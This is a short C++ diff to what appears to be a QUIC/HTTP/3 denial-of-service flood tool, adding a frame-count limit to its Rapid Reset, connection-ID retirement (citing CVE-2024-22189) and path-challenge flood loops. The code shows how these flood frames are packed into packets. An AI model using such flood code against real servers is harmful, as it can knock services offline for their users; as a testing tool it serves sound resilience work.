@@ -36,7 +36,7 @@ RapidReset::RapidReset(Executor executor, std::shared_ptr<const H3FloodOptions> 
 bool RapidReset::add_flood_frames(quic::Bytes& payload, std::size_t room, std::size_t& added) {
   if (headers_.empty()) headers_ = get_headers(flood().h3);
   const std::size_t each = headers_.size() + 32;  // the STREAM and RESET_STREAM frames
-  while (room >= payload.size() + each) {
+  while (room >= payload.size() + each && added + 2 <= frames_left()) {
     if (!take_credit(headers_.size())) return false;
     const auto id = open_bidi();
     if (!id) return false;  // the server's MAX_STREAMS: no more streams for now
@@ -58,7 +58,7 @@ bool ConnectionIdFlood::add_flood_frames(quic::Bytes& payload, std::size_t room,
   if (next_sequence_ == 0) next_sequence_ = link().scids_issued;
   const std::size_t length = link().scid_length;
   const std::size_t each = 1 + 8 + 8 + 1 + length + 16;
-  while (room >= payload.size() + each) {
+  while (room >= payload.size() + each && added < frames_left()) {
     // Each retires every connection ID before it: the server owes a RETIRE_CONNECTION_ID
     // for each, which the withheld ACKs leave unacknowledged (CVE-2024-22189).
     const std::uint64_t sequence = next_sequence_++;
@@ -77,7 +77,8 @@ PathChallengeFlood::PathChallengeFlood(Executor executor,
 
 bool PathChallengeFlood::add_flood_frames(quic::Bytes& payload, std::size_t room,
                                           std::size_t& added) {
-  for (std::size_t i = 0; i < kChallengesPerPacket && room >= payload.size() + 9; ++i) {
+  for (std::size_t i = 0;
+       i < kChallengesPerPacket && room >= payload.size() + 9 && added < frames_left(); ++i) {
     quic::put_path_challenge(payload, h3init::random_bytes(8));
     ++added;
   }
